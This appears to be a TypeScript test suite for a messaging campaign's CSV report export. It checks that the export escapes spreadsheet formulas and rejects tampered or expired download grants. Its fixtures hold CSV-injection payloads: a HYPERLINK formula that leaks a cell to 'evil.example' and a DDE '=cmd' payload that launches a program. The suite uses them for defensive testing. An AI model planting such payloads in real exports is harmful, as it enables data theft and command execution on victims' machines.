import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { createTestApp, type TestApp } from './app.js';
import { createCampaignFixture } from './report-fixtures.js';
import { downloadGrantKey, signDownloadGrant } from '../src/reports/download-grant.js';

const HEADER = 'phone,status,message_id,error_code,error_title,sent_at,delivered_at,read_at,failed_at,first_name,last_name,pricing_category,pricing_model,pricing_type,billable,price,replied_at,button';

/** Buffers the whole body as text (supertest does not for text/csv). */
function text(response: request.Response, callback: (error: Error | null, body: string) => void): void {
  let body = '';
  response.setEncoding('utf8');
  response.on('data', (chunk: string) => (body += chunk));
  response.on('end', () => callback(null, body));
}

describe('GET /v1/campaigns/:id/report.csv', () => {
  let engine: TestApp;

  beforeAll(async () => {
    engine = await createTestApp({ env: { ROLE: 'api', SENDER_ENABLED: 'false' } });
  }, 60_000);
  afterAll(() => engine.close());

  it('exports every recipient with the contract header, names, and formula cells neutralised', async () => {
    const names = [
      { first: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', last: 'Normal' },
      { first: '+1+1', last: '-2' },
      { first: '-2', last: '@x' },
      { first: '@x', last: '=1+1' },
      { first: '\tTabbed', last: '\rReturned' },
      { first: 'Zoë, "the boss"', last: 'Line\nbreak' },
      { first: null, last: null },
    ];
    const { campaignId } = await createCampaignFixture(engine.dataSource, { recipients: 10, names });
    await engine.dataSource.query(
      `UPDATE campaign_recipients SET status = 'failed', failed_at = '2026-05-01T10:00:00Z', error_code = 131026,
         error_title = '=cmd|'' /C calc''!A0', sent_at = '2026-05-01T09:59:59.123Z', message_id = 'wamid.HBg'
       WHERE id = (SELECT min(id) FROM campaign_recipients WHERE campaign_id = $1)`,
      [campaignId],
    );

    const response = await request(engine.url).get(`/v1/campaigns/${campaignId}/report.csv`).set(engine.auth).buffer(true).parse(text).expect(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(`attachment; filename="campaign-${campaignId}-report.csv"`);
    const body = response.body as string;
    expect(body.split('\n')[0]).toBe(HEADER);

    const rows = parse(body, { columns: true }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(10);
    expect(rows[0]).toEqual({
      // E.164 numbers export plainly (issue 15): a spreadsheet reads them as values, and they re-import.
      phone: expect.stringMatching(/^\+1555\d+$/),
      status: 'failed',
      message_id: 'wamid.HBg',
      error_code: '131026',
      error_title: "'=cmd|' /C calc'!A0",
      sent_at: '2026-05-01T09:59:59.123Z',
      delivered_at: '',
      read_at: '',
      failed_at: '2026-05-01T10:00:00.000Z',
      first_name: `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
      last_name: 'Normal',
      pricing_category: '',
      pricing_model: '',
      pricing_type: '',
      billable: '',
      price: '',
      replied_at: '',
      button: '',
    });
    expect(rows.slice(1, 7).map((row) => [row.first_name, row.last_name])).toEqual([
      ["'+1+1", '-2'],
      ['-2', "'@x"],
      ["'@x", "'=1+1"],
      ["'\tTabbed", "'\rReturned"],
      ['Zoë, "the boss"', 'Line\nbreak'],
      ['', ''],
    ]);
    expect(rows[7]).toMatchObject({ status: 'pending', first_name: 'First8', last_name: 'Last8' });
    // No cell of the raw file starts a formula: only plain numbers and E.164 phones start with + or -.
    const raw = parse(body) as string[][];
    for (const cell of raw.flat().filter((text) => !/^[+-]?\d+$/.test(text))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('streams a campaign larger than one batch, each recipient exactly once, in id order', async () => {
    const { campaignId } = await createCampaignFixture(engine.dataSource, { recipients: 12_345 });
    await engine.dataSource.query(
      `UPDATE campaign_recipients SET status = 'delivered', sent_at = now(), delivered_at = now() WHERE campaign_id = $1 AND id % 3 = 0`,
      [campaignId],
    );
    const response = await request(engine.url).get(`/v1/campaigns/${campaignId}/report.csv`).set(engine.auth).buffer(true).parse(text).expect(200);
    const rows = parse(response.body as string, { columns: true }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(12_345);
    expect(new Set(rows.map((row) => row.phone)).size).toBe(12_345);
    const [expected] = await engine.dataSource.query(
      `SELECT count(*) FILTER (WHERE status = 'delivered')::int AS delivered FROM campaign_recipients WHERE campaign_id = $1`,
      [campaignId],
    );
    expect(rows.filter((row) => row.status === 'delivered')).toHaveLength(expected.delivered);
    const phones: Array<{ phone: string }> = await engine.dataSource.query(
      'SELECT phone FROM campaign_recipients WHERE campaign_id = $1 ORDER BY id',
      [campaignId],
    );
    expect(rows.map((row) => row.phone)).toEqual(phones.map((row) => row.phone));
  }, 60_000);

  it.each([
    [{ status: 'delivered' }, 2],
    [{ status: 'pending' }, 3],
    [{ errorCode: 470 }, 1],
  ])('filters by %j', async (query, expected) => {
    const { campaignId } = await createCampaignFixture(engine.dataSource, { recipients: 6 });
    await engine.dataSource.query(
      `UPDATE campaign_recipients SET status = 'delivered', sent_at = now(), delivered_at = now()
       WHERE id IN (SELECT id FROM campaign_recipients WHERE campaign_id = $1 ORDER BY id LIMIT 2)`,
      [campaignId],
    );
    await engine.dataSource.query(
      `UPDATE campaign_recipients SET status = 'failed', failed_at = now(), error_code = 470, error_title = 'Re-engagement'
       WHERE id = (SELECT max(id) FROM campaign_recipients WHERE campaign_id = $1)`,
      [campaignId],
    );
    const response = await request(engine.url).get(`/v1/campaigns/${campaignId}/report.csv`).query(query).set(engine.auth).buffer(true).parse(text).expect(200);
    const rows = parse(response.body as string, { columns: true }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(expected);
  });

  it('an empty campaign is just the header; 400 for an unknown status; 401 without a token', async () => {
    const { campaignId } = await createCampaignFixture(engine.dataSource, { recipients: 0 });
    const empty = await request(engine.url).get(`/v1/campaigns/${campaignId}/report.csv`).set(engine.auth).buffer(true).parse(text).expect(200);
    expect(empty.body).toBe(`${HEADER}\n`);
    const bad = await request(engine.url).get(`/v1/campaigns/${campaignId}/report.csv?status=nope`).set(engine.auth).expect(400);
    expect(bad.body.allowed).toContain('delivered');
    // an error code outside the column's range: a 400 before the first byte, not a truncated 200
    const overflow = await request(engine.url).get(`/v1/campaigns/${campaignId}/report.csv?errorCode=3000000000`).set(engine.auth).expect(400);
    expect(overflow.body.message).toMatch(/errorCode/);
    await request(engine.url).get(`/v1/campaigns/${campaignId}/report.csv`).expect(401);
  });

  describe('the report page\'s download link (streamed by the browser, no token on the link)', () => {
    it('gives a short-lived link that serves the same CSV without the API token', async () => {
      const { campaignId } = await createCampaignFixture(engine.dataSource, { recipients: 12, names: [{ first: '=cmd()', last: 'x' }] });
      const { body: link } = await request(engine.url).post(`/v1/campaigns/${campaignId}/report.csv/link`).set(engine.auth).expect(200);
      expect(link.url).toMatch(new RegExp(`^/campaigns/${campaignId}/report\\.csv\\?grant=`));
      const expiresIn = new Date(link.expiresAt).getTime() - Date.now();
      expect(expiresIn).toBeGreaterThan(50_000);
      expect(expiresIn).toBeLessThanOrEqual(61_000);

      const viaLink = await request(engine.url).get(link.url).buffer(true).parse(text).expect(200);
      expect(viaLink.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(viaLink.headers['content-disposition']).toBe(`attachment; filename="campaign-${campaignId}-report.csv"`);
      expect(viaLink.headers['cache-control']).toBe('no-store');
      const viaApi = await request(engine.url).get(`/v1/campaigns/${campaignId}/report.csv`).set(engine.auth).buffer(true).parse(text).expect(200);
      expect(viaLink.body).toBe(viaApi.body);
      expect((viaLink.body as string).split('\n')).toHaveLength(12 + 2);
    });

    it('refuses a link without its grant, altered, for another campaign or expired (401), and asks a token for a new one', async () => {
      const { campaignId } = await createCampaignFixture(engine.dataSource, { recipients: 1 });
      const { campaignId: other } = await createCampaignFixture(engine.dataSource, { recipients: 1 });
      const { body: link } = await request(engine.url).post(`/v1/campaigns/${campaignId}/report.csv/link`).set(engine.auth).expect(200);
      const grant = new URL(link.url, engine.url).searchParams.get('grant')!;
      const key = downloadGrantKey(engine.config.encryptionKey);
      const expired = signDownloadGrant(key, campaignId, Math.floor(Date.now() / 1000) - 1);
      for (const url of [
        `/campaigns/${campaignId}/report.csv`,
        `/campaigns/${campaignId}/report.csv?grant=`,
        `/campaigns/${campaignId}/report.csv?grant=${encodeURIComponent(grant.slice(0, -2) + (grant.endsWith('AA') ? 'BB' : 'AA'))}`,
        `/campaigns/${other}/report.csv?grant=${encodeURIComponent(grant)}`,
        `/campaigns/${campaignId}/report.csv?grant=${encodeURIComponent(expired)}`,
        `/campaigns/${campaignId}/report.csv?grant=${encodeURIComponent(signDownloadGrant(downloadGrantKey(Buffer.alloc(32)), campaignId, Date.now() / 1000 + 30))}`,
      ]) {
        const response = await request(engine.url).get(url).expect(401);
        expect(response.headers['content-type']).toMatch(/^application\/json/);
      }
      const { body } = await request(engine.url).get(`/campaigns/${campaignId}/report.csv?grant=${encodeURIComponent(expired)}`).expect(401);
      expect(body.message).toMatch(/expired/);
      await request(engine.url).post(`/v1/campaigns/${campaignId}/report.csv/link`).expect(401);
      await request(engine.url).post(`/v1/campaigns/00000000-0000-4000-8000-000000000000/report.csv/link`).set(engine.auth).expect(404);
    });
  });
});
